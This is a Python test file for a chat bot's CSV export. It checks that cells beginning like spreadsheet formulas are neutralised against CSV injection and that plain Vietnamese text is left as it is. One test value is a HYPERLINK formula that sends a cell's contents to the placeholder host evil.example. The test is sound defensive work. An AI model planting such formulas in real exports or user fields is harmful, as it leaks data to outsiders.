"""CSV exports never carry a live spreadsheet formula (OWASP CSV injection); plain text is kept."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from zoneinfo import ZoneInfo

import pytest
from sqlmodel import select

from bot.run import build_conversation
from bot.settings import Settings
from bot.wiring import build_services
from handlers.types import ContentKind, Incoming
from jobs.csvfile import csv_bytes, csv_writer, safe_cell
from jobs.models import Person
from knowledge.db import read_session

TZ = ZoneInfo("Asia/Ho_Chi_Minh")
ADMIN = "900"
NOW = datetime(2026, 12, 3, 9, 0, tzinfo=TZ)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


@pytest.mark.parametrize("cell", ["=1+1", "+84 912", "-2+3", "@SUM(A1)", "\tx", "\r=1", EVIL])
def test_formula_cells_get_a_leading_quote(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    [
        "Phòng Tổ chức cán bộ",
        "10/12/2026",
        "2026-12-03 09:00:00",
        "telegram:701 (Cán bộ 701)",
        "a=b",
        " =x",
        "",
        "Đã gửi; lỗi 400",
    ],
)
def test_ordinary_text_is_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_writer_round_trip_keeps_quotes_and_commas() -> None:
    data = csv_bytes(lambda out: csv_writer(out).writerow(['a "b", c', "=x", None]))
    [row] = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert row == ['a "b", c', "'=x", ""]


def _say(conv, user: str, text: str, name: str):  # type: ignore[no-untyped-def]
    return conv.handle(
        Incoming(
            channel="telegram",
            chat_id=user,
            user_id=user,
            display_name=name,
            kind=ContentKind.TEXT,
            text=text,
        )
    )


def test_display_name_formula_is_neutralised_in_nhatky_csv(bundled_copy) -> None:  # type: ignore[no-untyped-def]
    settings = Settings(database_url=f"sqlite:///{bundled_copy}", admin_ids=frozenset({ADMIN}))
    services = build_services(settings, clock=lambda: NOW)
    conv = build_conversation(services)
    _say(conv, "701", "/donvi tccb", EVIL)
    with read_session(services.engine) as s:
        person = next(p for p in s.exec(select(Person)) if p.display_name == EVIL)
    _say(conv, ADMIN, f"/duyet {person.id}", "Văn phòng")
    [reply] = _say(conv, ADMIN, "/nhatky csv", "Văn phòng")
    assert reply.attachment is not None
    text = reply.attachment.data.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text, newline="")))
    cells = [cell for row in rows for cell in row]
    assert "'" + EVIL in cells  # the approval row names the person: shown as text in Excel
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert "duyệt thành viên" in cells  # ordinary Vietnamese cells are as they were
